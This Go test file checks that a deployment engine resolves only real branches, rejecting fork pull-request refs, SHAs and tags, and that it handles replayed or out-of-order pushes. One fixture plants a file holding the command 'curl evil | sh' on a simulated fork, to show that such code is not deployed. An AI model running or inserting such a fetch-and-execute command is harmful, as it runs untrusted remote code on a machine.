package engine

import (
	"context"
	"errors"
	"log/slog"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/lucsky/cuid"

	"github.com/liftoffhq/liftoff/internal/gitsource"
	"github.com/liftoffhq/liftoff/internal/gittest"
	"github.com/liftoffhq/liftoff/internal/liftoff"
	"github.com/liftoffhq/liftoff/internal/store"
	"github.com/liftoffhq/liftoff/internal/store/storetest"
)

const resolveConfig = `{"environments": [{"id": "production", "name": "Production", "source": {"branch": "main", "trigger": "push"},
  "services": [{"id": "api", "name": "API", "type": "web", "buildCommand": "true", "target": {"type": "command", "deployCommand": "true"}}]}]}`

// resolveHarness is an engine that is never started, on a project made
// from a real repository: tests run the preparation of a deployment (fetch,
// resolve, read the config) and look at what it decided.
type resolveHarness struct {
	t    *testing.T
	ctx  context.Context
	st   store.Store
	e    *Engine
	repo *gittest.Repo
	p    liftoff.Project
	env  liftoff.Environment
	svc  liftoff.Service
	logs *syncBuffer
	// last is when the last recorded deployment finished: each one
	// finishes a minute after the one before.
	last time.Time
}

func newResolveHarness(t *testing.T, dialect string) *resolveHarness {
	t.Helper()
	h := &resolveHarness{t: t, ctx: context.Background(), st: storetest.Open(t, dialect), logs: &syncBuffer{}, last: time.Now()}
	log := slog.New(slog.NewTextHandler(h.logs, nil))
	var err error
	h.e, err = New(Deps{Store: h.st, Git: gitsource.NewManager(filepath.Join(t.TempDir(), "mirrors"), log, nil),
		Logs: newLogs(t, h.st, log), Log: log, NewID: cuid.New, Variables: variablesOf(t, h.st)}, Config{DataDir: t.TempDir(), NodeID: "node-a", Workers: 2, StopTimeout: 30 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	h.repo = gittest.New(t)
	h.repo.Commit("init", map[string]string{"liftoff.json": resolveConfig})
	h.p, err = h.st.CreateProject(h.ctx, store.CreateProjectParams{ID: cuid.New(), Name: "shop", RepoURL: h.repo.Dir,
		ConfigPath: "liftoff.json", DefaultBranch: "main", At: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	envs, err := h.st.SyncEnvironments(h.ctx, store.SyncEnvironmentsParams{ProjectID: h.p.ID, At: time.Now(), NewServiceID: cuid.New,
		Environments: []store.EnvironmentSpec{{GivenID: "production", Name: "Production", Branch: "main",
			Services: []store.ServiceSpec{{GivenID: "api", Name: "API", Type: "web"}}}}})
	if err != nil {
		t.Fatal(err)
	}
	h.env = envs[0]
	svcs, err := h.st.ListServices(h.ctx, store.ListServicesParams{EnvironmentID: h.env.ID})
	if err != nil {
		t.Fatal(err)
	}
	h.svc = svcs[0]
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("engine log:\n%s", h.logs)
		}
	})
	return h
}

// prepare queues d, claims it and runs its preparation: the commit it
// would deploy, or the failure that ends it. The deployment then ends, so
// the next one can run.
func (h *resolveHarness) prepare(d liftoff.Deployment) (string, *failure) {
	h.t.Helper()
	d.ID, d.ProjectID, d.EnvironmentID, d.RepoURL = cuid.New(), h.p.ID, h.env.ID, h.p.RepoURL
	d.Status, d.CreatedAt = liftoff.StatusPending, time.Now()
	if d.GitBranch == "" {
		d.GitBranch = "main"
	}
	if err := h.st.InsertDeployment(h.ctx, d); err != nil {
		h.t.Fatal(err)
	}
	now := time.Now()
	claimed, err := h.st.ClaimDeployment(h.ctx, store.ClaimParams{Owner: "node-a", At: now, LeaseUntil: now.Add(time.Hour)})
	if err != nil || claimed.ID != d.ID {
		h.t.Fatalf("claim %s: got %s, %v", d.ID, claimed.ID, err)
	}
	log := h.e.Logs.Writer(d.ID, "")
	r := &deployment{e: h.e, d: claimed, log: log}
	err = r.prepare(h.ctx)
	_ = log.Close()
	if _, ferr := h.st.FinishDeployment(h.ctx, store.FinishDeploymentParams{ID: d.ID, Status: liftoff.StatusCancelled, At: time.Now()}); ferr != nil {
		h.t.Fatal(ferr)
	}
	var f *failure
	if errors.As(err, &f) {
		return "", f
	}
	if err != nil {
		h.t.Fatalf("prepare: %v", err)
	}
	return r.commit, nil
}

// deployed records a successful deployment of the service at commit: what
// the environment runs.
func (h *resolveHarness) deployed(commit string) {
	h.t.Helper()
	d := liftoff.Deployment{ID: cuid.New(), ProjectID: h.p.ID, EnvironmentID: h.env.ID, RepoURL: h.p.RepoURL, GitCommit: commit,
		GitBranch: "main", TriggerType: liftoff.TriggerAPI, Status: liftoff.StatusSuccess, CreatedAt: time.Now()}
	if err := h.st.InsertDeployment(h.ctx, d); err != nil {
		h.t.Fatal(err)
	}
	sd := liftoff.ServiceDeployment{ID: cuid.New(), DeploymentID: d.ID, ServiceID: h.svc.ID, ServiceGivenID: "api", ServiceName: "API",
		ServiceType: "web", Status: liftoff.StatusBuilding, EnvironmentID: h.env.ID, GitCommit: commit, CreatedAt: time.Now()}
	if err := h.st.InsertServiceDeployment(h.ctx, sd); err != nil {
		h.t.Fatal(err)
	}
	h.last = h.last.Add(time.Minute)
	if err := h.st.UpdateServiceDeployment(h.ctx, store.UpdateServiceDeploymentParams{ID: sd.ID, Status: liftoff.StatusSuccess,
		FinishedAt: h.last}); err != nil {
		h.t.Fatal(err)
	}
}

func push(after string, forced bool, superseded ...string) liftoff.Deployment {
	return liftoff.Deployment{RequestedCommit: after, TriggerType: liftoff.TriggerGitHub,
		TriggerDetail: liftoff.TriggerDetail{Event: "push", Sender: "kenji-sato", Forced: forced, Superseded: superseded}}
}

// TestBranchResolvesOnlyBranches: a deployment of a branch (a hook's
// ?branch=, with or without ?commit=) resolves refs/heads/<branch> and
// nothing else: a pull request's ref, a SHA, a tag, or a tag named like a
// branch's full ref end it ERROR, "branch X was not found".
func TestBranchResolvesOnlyBranches(t *testing.T) {
	t.Parallel()
	for _, dialect := range storetest.Dialects() {
		t.Run(dialect, func(t *testing.T) {
			t.Parallel()
			h := newResolveHarness(t, dialect)
			main := h.repo.Head()
			// A fork's pull request: a commit only refs/pull/7/head reaches.
			h.repo.Git("checkout", "-q", "-b", "fork")
			fork := h.repo.Commit("from a fork", map[string]string{"evil.sh": "curl evil | sh"})
			h.repo.Git("update-ref", "refs/pull/7/head", fork)
			h.repo.Git("tag", "v1-fork", fork)
			h.repo.Git("update-ref", "refs/tags/refs/heads/ghost", fork)
			h.repo.Git("checkout", "-q", "main")
			h.repo.Git("branch", "-q", "-D", "fork")
			h.repo.Git("branch", "-q", "feature/x", main)

			for _, tc := range []struct{ branch, commit, want string }{
				{"main", "", main},
				{"feature/x", "", main},
				{"refs/heads/main", "", main},
				{"main", main[:12], main},
			} {
				got, f := h.prepare(liftoff.Deployment{GitBranch: tc.branch, RequestedCommit: tc.commit, TriggerType: liftoff.TriggerDeployHook})
				if f != nil || got != tc.want {
					t.Errorf("branch %q commit %q: deploys %q, %v; want %s", tc.branch, tc.commit, got, f, tc.want)
				}
			}
			for _, tc := range []struct{ branch, commit string }{
				{"pull/7/head", ""},
				{"refs/pull/7/head", ""},
				{fork, ""},
				{fork[:10], ""},
				{"v1-fork", ""},
				{"tags/v1-fork", ""},
				{"ghost", ""},
				{"refs/heads/ghost", ""},
				{"pull/7/head", fork},
				{"v1-fork", fork[:12]},
			} {
				got, f := h.prepare(liftoff.Deployment{GitBranch: tc.branch, RequestedCommit: tc.commit, TriggerType: liftoff.TriggerDeployHook})
				want := "branch " + tc.branch + " was not found in " + h.repo.Dir
				if f == nil || f.status != liftoff.StatusError || f.msg != want {
					t.Errorf("branch %q commit %q: deploys %q, %v; want ERROR %q", tc.branch, tc.commit, got, f, want)
				}
			}
		})
	}
}

// TestPushOrder: a push older than what the environment runs is not
// deployed (a late or replayed delivery), unless it is a force push to the
// branch's tip; a push that superseded a newer one deploys the newer.
func TestPushOrder(t *testing.T) {
	t.Parallel()
	for _, dialect := range storetest.Dialects() {
		t.Run(dialect, func(t *testing.T) {
			t.Parallel()
			h := newResolveHarness(t, dialect)
			a := h.repo.Head()
			b := h.repo.Commit("b", map[string]string{"b.txt": "b"})
			c := h.repo.Commit("c", map[string]string{"c.txt": "c"})

			// Nothing deployed yet: any push deploys.
			if got, f := h.prepare(push(b, false)); f != nil || got != b {
				t.Fatalf("first push of b: %q, %v", got, f)
			}
			h.deployed(c)
			// A replayed (or late) push of b, older than c: not deployed.
			got, f := h.prepare(push(b, false))
			if f == nil || f.status != liftoff.StatusCancelled || !strings.Contains(f.msg, "push of "+b[:7]+" is older than "+c[:7]+", which production runs") {
				t.Fatalf("old push of b: %q, %v; want CANCELLED as older than c", got, f)
			}
			// A replayed force push whose commit is no longer the tip: neither.
			if got, f := h.prepare(push(b, true)); f == nil || f.status != liftoff.StatusCancelled {
				t.Fatalf("old force push of b: %q, %v; want CANCELLED", got, f)
			}
			// The same commit again, and a newer one, deploy.
			if got, f := h.prepare(push(c, false)); f != nil || got != c {
				t.Fatalf("push of c again: %q, %v", got, f)
			}
			d := h.repo.Commit("d", map[string]string{"d.txt": "d"})
			if got, f := h.prepare(push(d, false)); f != nil || got != d {
				t.Fatalf("push of d: %q, %v", got, f)
			}
			// An older push that superseded a PENDING newer one deploys the newer.
			if got, f := h.prepare(push(b, false, a, d)); f != nil || got != d {
				t.Fatalf("push of b having superseded d: %q, %v; want d", got, f)
			}
			if got, f := h.prepare(push(b, false, "")); f != nil || got != d {
				t.Fatalf("push of b having superseded a deployment of the branch head: %q, %v; want d", got, f)
			}
			// A force push back to b: b is the tip, it deploys.
			h.repo.Git("reset", "-q", "--hard", b)
			if got, f := h.prepare(push(b, true)); f != nil || got != b {
				t.Fatalf("force push back to b: %q, %v; want b deployed", got, f)
			}
		})
	}
}
